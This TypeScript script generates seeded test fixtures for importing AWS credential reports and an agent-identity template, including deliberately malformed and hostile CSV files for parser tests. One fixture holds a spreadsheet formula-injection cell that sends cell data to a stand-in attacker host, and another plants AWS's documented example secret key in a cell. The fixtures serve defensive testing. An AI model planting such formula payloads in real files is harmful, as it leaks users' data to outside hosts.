/**
 * Evidence import fixtures (issue 20, docs/evidence.md): realistic files with no real data,
 * the same bytes on every run (a seeded PRNG and a fixed "now").
 *
 *   npx tsx scripts/evidence/generate-fixtures.ts [directory]   (default test-output/evidence-fixtures/)
 *
 * writes a credential report and a template of a few dozen identities, malformed and hostile
 * files (wrong columns, a short row, a formula-injection cell, a huge field, a secret in a cell,
 * a bad date, a broken quote), and a 50,000-identity credential report, streamed to disk. The
 * small ones are committed under test/fixtures/evidence/ and read by the parser tests; the
 * functions are exported for the tests and the import benchmark.
 */
import { createWriteStream, mkdirSync, writeFileSync } from 'node:fs';
import { once } from 'node:events';
import { join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { CREDENTIAL_REPORT_COLUMNS } from '../../functions/core/evidence/aws-credential-report';
import { TEMPLATE_COLUMNS } from '../../functions/core/evidence/aim-template';

/** The instant the fixtures' dates are relative to; tests compute facts "as of" it. */
export const FIXTURE_NOW = '2026-11-30T00:00:00.000Z';
const NOW_MS = Date.parse(FIXTURE_NOW);
const DAY_MS = 86_400_000;
const ACCOUNT = '210987654321';

/** mulberry32: small, fast and deterministic; not for anything secret. */
export function seededRandom(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const pick = <T>(random: () => number, items: readonly T[]): T => items[Math.floor(random() * items.length)] as T;
/** An instant `days` before FIXTURE_NOW, as AWS writes it (seconds, +00:00). */
const daysAgo = (days: number) => new Date(NOW_MS - Math.round(days * DAY_MS)).toISOString().replace(/\.\d{3}Z$/, '+00:00');
const csvCell = (value: string) => (/[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value);
const csvLine = (cells: readonly string[]) => `${cells.map(csvCell).join(',')}\n`;

const FIRST = ['ana', 'ben', 'chloe', 'dev', 'emma', 'femi', 'gita', 'hugo', 'ines', 'jonas', 'kai', 'lena', 'mo', 'nora', 'omar', 'pia'];
const LAST = ['adams', 'berg', 'costa', 'dubois', 'eriksen', 'fischer', 'garcia', 'hall', 'ito', 'jansen', 'khan', 'larsen', 'moreau', 'novak'];
const AGENT_TASKS = [
  'invoice-triage',
  'support-reply',
  'code-review',
  'lead-scoring',
  'contract-summary',
  'log-triage',
  'hr-onboarding',
  'sales-forecast',
  'ticket-router',
  'kb-search',
];
const WORKLOADS = ['ci-deploy', 'backup-job', 'etl-nightly', 'metrics-export', 'dns-sync'];

type Row = Record<(typeof CREDENTIAL_REPORT_COLUMNS)[number], string>;

function emptyUser(user: string): Row {
  const row = Object.fromEntries(CREDENTIAL_REPORT_COLUMNS.map((c) => [c, 'N/A'])) as Row;
  row.user = user;
  row.arn = `arn:aws:iam::${ACCOUNT}:user/${user}`;
  row.password_enabled = 'false';
  row.mfa_active = 'false';
  row.access_key_1_active = 'false';
  row.access_key_2_active = 'false';
  row.cert_1_active = 'false';
  row.cert_2_active = 'false';
  return row;
}

function withKey(row: Row, n: 1 | 2, random: () => number, ageDays: number, usedDaysAgo: number | null) {
  row[`access_key_${n}_active`] = 'true';
  row[`access_key_${n}_last_rotated`] = daysAgo(ageDays);
  if (usedDaysAgo !== null) {
    row[`access_key_${n}_last_used_date`] = daysAgo(Math.min(usedDaysAgo, ageDays));
    row[`access_key_${n}_last_used_region`] = pick(random, ['eu-west-1', 'us-east-1', 'eu-central-1']);
    row[`access_key_${n}_last_used_service`] = pick(random, ['s3', 'sts', 'dynamodb', 'bedrock', 'sqs']);
  }
}

/** One credential report row for user number `i`: a person, an agent, or another workload. */
function reportRow(i: number, random: () => number): Row {
  const kind = random();
  if (kind < 0.45) {
    // A person: console password, MFA mostly, a CLI key now and then.
    const user = `${pick(random, FIRST)}.${pick(random, LAST)}${i}`;
    const row = emptyUser(user);
    const created = 60 + random() * 1500;
    row.user_creation_time = daysAgo(created);
    row.password_enabled = 'true';
    row.password_last_used = random() < 0.9 ? daysAgo(random() * Math.min(created, 60)) : 'no_information';
    row.password_last_changed = daysAgo(random() * created);
    row.mfa_active = random() < 0.8 ? 'true' : 'false';
    if (random() < 0.3) withKey(row, 1, random, random() * created, random() < 0.8 ? random() * 30 : null);
    return row;
  }
  if (kind < 0.8) {
    // An agent: keys only, named for its task; some old, some unused, a few on a key pair.
    const user = `svc-agent-${pick(random, AGENT_TASKS)}-${i}`;
    const row = emptyUser(user);
    const created = 10 + random() * 900;
    row.user_creation_time = daysAgo(created);
    withKey(row, 1, random, random() * created, random() < 0.85 ? random() * 120 : null);
    if (random() < 0.15) withKey(row, 2, random, random() * created, random() < 0.5 ? random() * 10 : null);
    return row;
  }
  if (kind < 0.93) {
    const user = `${pick(random, WORKLOADS)}-${i}`;
    const row = emptyUser(user);
    const created = 30 + random() * 1200;
    row.user_creation_time = daysAgo(created);
    withKey(row, 1, random, random() * created, random() * 5);
    if (random() < 0.2) {
      row.cert_1_active = 'true';
      row.cert_1_last_rotated = daysAgo(random() * created);
    }
    return row;
  }
  // A person's account that automation runs on: the password set but never used, the key busy.
  const user = `${pick(random, FIRST)}.${pick(random, LAST)}${i}`;
  const row = emptyUser(user);
  const created = 200 + random() * 800;
  row.user_creation_time = daysAgo(created);
  row.password_enabled = 'true';
  row.password_last_used = 'N/A';
  row.password_last_changed = daysAgo(created);
  withKey(row, 1, random, created - 1, random() * 3);
  return row;
}

function rootRow(): Row {
  const row = emptyUser('<root_account>');
  row.arn = `arn:aws:iam::${ACCOUNT}:root`;
  row.user_creation_time = daysAgo(2000);
  row.password_enabled = 'not_supported';
  row.password_last_used = daysAgo(40);
  row.password_last_changed = 'not_supported';
  row.password_next_rotation = 'not_supported';
  row.mfa_active = 'true';
  return row;
}

/** A credential report's lines, header first, one at a time (so 50,000 rows never sit in memory). */
export function* credentialReportLines(count: number, seed = 20): Generator<string> {
  const random = seededRandom(seed);
  yield csvLine(CREDENTIAL_REPORT_COLUMNS);
  yield csvLine(CREDENTIAL_REPORT_COLUMNS.map((c) => rootRow()[c]));
  for (let i = 1; i < count; i++) {
    const row = reportRow(i, random);
    yield csvLine(CREDENTIAL_REPORT_COLUMNS.map((c) => row[c]));
  }
}

/** A whole credential report of `count` identities (the root account included). */
export const credentialReportCsv = (count: number, seed = 20) => [...credentialReportLines(count, seed)].join('');

type TemplateRow = Record<(typeof TEMPLATE_COLUMNS)[number], string>;

function templateRow(i: number, random: () => number): TemplateRow {
  const task = pick(random, AGENT_TASKS);
  const use = random() < 0.7 ? 'dedicated' : random() < 0.7 ? 'shared' : 'personal';
  const credential = pick(random, ['static-key', 'static-key', 'client-secret', 'certificate', 'federated', 'federated', 'password']);
  const identity =
    use === 'shared'
      ? `arn:aws:iam::${ACCOUNT}:user/svc-shared-agents`
      : use === 'personal'
        ? `${pick(random, FIRST)}.${pick(random, LAST)}@example.com`
        : `arn:aws:iam::${ACCOUNT}:role/${task}-agent-${i}`;
  const lifetime = credential === 'federated' ? pick(random, ['0.0417', '1h', '1']) : pick(random, ['never', '90', '365', '']);
  return {
    agent: `${task}-agent-${i}`,
    owner: random() < 0.75 ? `${pick(random, FIRST)}.${pick(random, LAST)}@example.com` : '',
    purpose: `Handles ${task.replace('-', ' ')} for the ${pick(random, ['finance', 'support', 'sales', 'platform', 'legal'])} team`,
    identity,
    identity_type: use,
    credential_type: credential,
    max_lifetime_days: lifetime,
    last_rotated: credential === 'federated' ? '' : new Date(NOW_MS - Math.floor(random() * 400) * DAY_MS).toISOString().slice(0, 10),
    environments: pick(random, ['prod', 'prod', 'prod;staging', 'staging', 'prod-eu;prod-us', 'dev;test']),
    data_sensitivity: pick(random, ['public', 'internal', 'confidential', 'restricted', '']),
    acts_for_users: random() < 0.3 ? 'yes' : 'no',
    approvals_required: random() < 0.5 ? 'yes' : 'no',
  };
}

export function templateCsv(count: number, seed = 21): string {
  const random = seededRandom(seed);
  let out = csvLine(TEMPLATE_COLUMNS);
  for (let i = 1; i <= count; i++) {
    const row = templateRow(i, random);
    out += csvLine(TEMPLATE_COLUMNS.map((c) => row[c]));
  }
  return out;
}

/**
 * The documented AWS example secret access key (IAM User Guide): what a pasted secret looks like,
 * and never a working one.
 */
export const EXAMPLE_SECRET_ACCESS_KEY = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY';

/** Malformed and hostile files, by file name, each with the problem the parsers must report. */
export function hostileFixtures(): Record<string, string> {
  const report = credentialReportCsv(6, 22).split('\n');
  const template = templateCsv(4, 23).split('\n');
  const replaceCell = (lines: string[], line: number, column: number, value: string) =>
    lines
      .map((l, i) =>
        i === line
          ? l
              .split(',')
              .map((c, j) => (j === column ? csvCell(value) : c))
              .join(',')
          : l,
      )
      .join('\n');
  const templateColumn = (name: (typeof TEMPLATE_COLUMNS)[number]) => TEMPLATE_COLUMNS.indexOf(name);
  const reportColumn = (name: (typeof CREDENTIAL_REPORT_COLUMNS)[number]) => CREDENTIAL_REPORT_COLUMNS.indexOf(name);
  return {
    // The header lacks mfa_active and access_key_2_last_used_date (and so every row is one field short of the original).
    'credential-report-wrong-columns.csv': report
      .map((l) =>
        l
          .split(',')
          .filter((_, j) => j !== reportColumn('mfa_active') && j !== reportColumn('access_key_2_last_used_date'))
          .join(','),
      )
      .join('\n'),
    // Row 4 lost its last three fields.
    'credential-report-short-row.csv': report.map((l, i) => (i === 3 ? l.split(',').slice(0, -3).join(',') : l)).join('\n'),
    // Row 3's user_creation_time is not a date.
    'credential-report-bad-date.csv': replaceCell(report, 2, reportColumn('user_creation_time'), '31/12/2025'),
    // Row 2 of the template holds a secret in its purpose.
    'template-secret-in-cell.csv': replaceCell(template, 1, templateColumn('purpose'), `reads S3 with aws_secret_access_key=${EXAMPLE_SECRET_ACCESS_KEY}`),
    // Row 3's owner is a spreadsheet formula: it must import as the text it is.
    'template-formula-injection.csv': replaceCell(template, 2, templateColumn('owner'), '=HYPERLINK("https://attacker.example/?q="&A1,"owner")'),
    // Row 2's purpose is 10,000 characters.
    'template-huge-field.csv': replaceCell(template, 1, templateColumn('purpose'), 'x'.repeat(10_000)),
    // A quote opened in row 3 is never closed.
    'template-broken-quote.csv': template.map((l, i) => (i === 2 ? l.replace(/,/, ',"') : l)).join('\n'),
  };
}

/** The small fixtures committed under test/fixtures/evidence/. */
export function smallFixtures(): Record<string, string> {
  return {
    'credential-report.csv': credentialReportCsv(40),
    'template.csv': templateCsv(30),
    ...hostileFixtures(),
  };
}

/** Streams the large credential report to a file, one line at a time. */
export async function writeLargeCredentialReport(path: string, count = 50_000, seed = 50): Promise<void> {
  const out = createWriteStream(path);
  for (const line of credentialReportLines(count, seed)) {
    if (!out.write(line)) await once(out, 'drain');
  }
  out.end();
  await once(out, 'finish');
}

async function main() {
  const dir = resolve(process.argv[2] ?? 'test-output/evidence-fixtures');
  mkdirSync(dir, { recursive: true });
  for (const [name, text] of Object.entries(smallFixtures())) writeFileSync(join(dir, name), text);
  await writeLargeCredentialReport(join(dir, 'credential-report-50000.csv'));
  console.log(`evidence fixtures written to ${dir}`);
}

if (process.argv[1] && import.meta.url === pathToFileURL(resolve(process.argv[1])).href) await main();
